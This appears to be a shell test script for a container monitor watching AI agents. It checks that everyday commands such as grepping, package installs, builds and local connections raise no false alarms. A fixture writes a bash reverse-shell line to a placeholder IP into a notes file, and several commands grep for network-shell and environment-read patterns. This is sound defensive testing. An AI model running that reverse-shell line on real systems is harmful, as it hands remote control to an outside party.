#!/bin/bash
# SPDX-License-Identifier: MIT
# The false positives an agent produces every day must stay quiet: with the monitor watching,
# grepping for attack patterns, installing socat, python arithmetic, npm installs, builds, local
# connections and ordinary file reads leave no audit line and the container running.
. "$(dirname "$0")/monitor-lib.sh"

c=$(t_name monitor)
t_defer "incus delete -f $c"
m_launch "$c" || t_bail "cannot launch $c"
t_ok "monitor starts" m_monitor "$c"
incus exec "$c" -- sh -c 'mkdir -p /workspace/src /workspace/docs /root/.ssh; echo "bash -i >& /dev/tcp/1.2.3.4/80" >/workspace/docs/notes.md; echo "int main;" >/workspace/src/a.c; echo ssh-ed25519 AAA >/root/.ssh/id_ed25519.pub; echo "A=example" >/workspace/.env.example'

quiet=(
    "grep -rn '/dev/tcp' /workspace/docs"
    "grep -rE 'nc -e|socat|ncat' /workspace"
    "grep -r 'bash -i >& /dev/tcp' /workspace/docs"
    "echo 'nc -e /bin/sh is a reverse shell' >/dev/null"
    "apt-get install -y socat"
    "apt-get install -y netcat-openbsd ncat"
    "python3 -c 'print(2+3)'"
    "python3 -c 'import sys; print(sys.version)'"
    "python3 -c 'import socket; print(socket.gethostname())'"
    "python3 -m http.server 8000 --help"
    "node -e 'console.log(1+1)'"
    "npm install"
    "npm ci && npm test"
    "npx tsc --noEmit"
    "pip install requests"
    "cargo build --release"
    "perl -e 'print 1+1'"
    "git commit -m 'detect /proc/*/environ reads'"
    "env | sort >/dev/null"
    "env | grep -i path"
    "printenv HOME"
    "echo \$HOME"
    "cat /proc/self/environ >/dev/null"
    "cat /proc/cpuinfo >/dev/null"
    "ls -la /root/.ssh/"
    "cat /root/.ssh/id_ed25519.pub"
    "cat /workspace/.env.example"
    "cp /workspace/.env.example /workspace/.env.local.sample"
    "find /workspace -name '*.c'"
    "grep -rn password /workspace/src"
    "(sleep 3 | nc -l -p 3000 >/dev/null &); usleep 200000; echo GET | nc 127.0.0.1 3000"
    "wget -q -O /dev/null http://127.0.0.1:1/ || true"
    "dd if=/dev/zero of=/workspace/small bs=1k count=512 2>/dev/null"
    "for i in 1 2 3 4 5 6 7 8 9 10; do sh -c 'true'; done"
    "i=0; while [ \$i -lt 60 ]; do true & i=\$((i+1)); done; wait"
)
for s in "${quiet[@]}"; do
    m_run "$c" "$s"
done
sleep 2.5 # two samples of I/O, connections and /tmp
t_is "no finding for ${#quiet[@]} everyday commands" "$(m_lines "$c")" 0
[ "$(m_lines "$c")" = 0 ] || t_diag "$(m_audit "$c" | jq -c '[.rule, .description]')"
t_is "the container keeps running" "$(m_state "$c")" RUNNING
t_ok "the supervisor still runs" test "$("$COI" monitor "$c" --stop)" = stopped

t_done
